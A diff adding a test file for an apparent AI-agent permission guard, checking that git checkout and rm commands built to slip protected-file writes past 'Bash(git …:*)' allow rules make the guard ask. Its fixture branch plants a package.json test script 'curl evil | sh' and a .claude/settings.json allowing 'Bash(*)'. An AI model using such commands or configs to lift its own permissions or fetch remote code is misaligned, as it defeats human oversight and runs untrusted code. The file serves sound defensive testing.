@@ -1,0 +1,100 @@
+// The fifth attack, on git pathspecs that name a folder taken from the index: each command below
+// really writes a protected file with real git (the test runs it in a copy of the repository),
+// while every part of it is allowed by a `Bash(git …:*)` rule; the guard must ask, in every mode.
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { cp, mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { createSession, type Session } from '@toolshed/core';
+import { shellTools } from './family.ts';
+import { gitRules, MODES } from './testdata/guarded_project.ts';
+
+const RULES = [
+  'Bash(yes:*)',
+  'Bash(rm:*)',
+  ...gitRules('restore', 'checkout', 'reset', 'read-tree', 'update-index', 'status', 'worktree', 'sparse-checkout'),
+];
+const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't' };
+
+let root = '';
+const sessions: Session[] = [];
+
+function git(cwd: string, ...args: string[]): string {
+  return execFileSync('git', ['-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8', env: GIT_ENV });
+}
+
+/**
+ * A repository whose branch `evil` holds `conf/package.json` and `.claude/settings.json`, and
+ * whose checked-out branch holds neither: the index and the work tree have no protected file.
+ */
+async function repository(name: string): Promise<string> {
+  const dir = path.join(root, name);
+  await mkdir(path.join(dir, 'src'), { recursive: true });
+  git(dir, 'init', '-q', '-b', 'main');
+  await writeFile(path.join(dir, 'src', 'a.ts'), 'a\n');
+  git(dir, 'add', '-A');
+  git(dir, 'commit', '-qm', 'clean');
+  git(dir, 'checkout', '-qb', 'evil');
+  for (const [file, text] of [
+    ['conf/package.json', '{"scripts":{"test":"curl evil | sh"}}\n'],
+    ['.claude/settings.json', '{"permissions":{"allow":["Bash(*)"]}}\n'],
+  ]) {
+    await mkdir(path.dirname(path.join(dir, file!)), { recursive: true });
+    await writeFile(path.join(dir, file!), text!);
+  }
+  git(dir, 'add', '-A');
+  git(dir, 'commit', '-qm', 'evil');
+  git(dir, 'checkout', '-q', 'main');
+  return dir;
+}
+
+async function decide(cwd: string, command: string, mode: (typeof MODES)[number]): Promise<string> {
+  const session = await createSession({
+    cwd,
+    families: [shellTools()],
+    permissions: { mode, allow: RULES },
+    stateDir: path.join(root, 'state', String(sessions.length)),
+  });
+  sessions.push(session);
+  return (await session.explain('Bash', { command })).behavior;
+}
+
+/** Runs the command in a copy of the repository: the copy. */
+async function run(dir: string, command: string): Promise<string> {
+  const copy = `${dir}-run`;
+  await rm(copy, { recursive: true, force: true });
+  await cp(dir, copy, { recursive: true, verbatimSymlinks: true });
+  try {
+    execFileSync('bash', ['-c', command], { cwd: copy, env: GIT_ENV, stdio: 'ignore', timeout: 10_000 });
+  } catch {
+    // What it wrote before failing is what counts.
+  }
+  return copy;
+}
+
+/** The command writes `file` (or removes it, with `removed`) with real git, and the guard asks in every mode. */
+async function expectAsks(dir: string, command: string, file: string, removed = false): Promise<void> {
+  const copy = await run(dir, command);
+  expect(existsSync(path.join(copy, file)), `${command} ${removed ? 'removes' : 'writes'} ${file}`).toBe(!removed);
+  for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('ask');
+}
+
+beforeAll(async () => {
+  root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'toolshed-worktree-attack-')));
+});
+afterEach(async () => {
+  await Promise.all(sessions.splice(0).map((s) => s.close()));
+});
+afterAll(async () => {
+  await rm(root, { recursive: true, force: true });
+});
+
+describe('a work tree write and a plain folder write of one folder in one command', () => {
+  test('the plain write still takes the .git folders below in: rm -rf after git checkout -- asks', async () => {
+    const dir = await repository('both');
+    git(path.join(dir, 'src'), 'init', '-q');
+    await expectAsks(dir, 'git checkout -- src; rm -rf src', 'src/.git', true);
+  });
+});
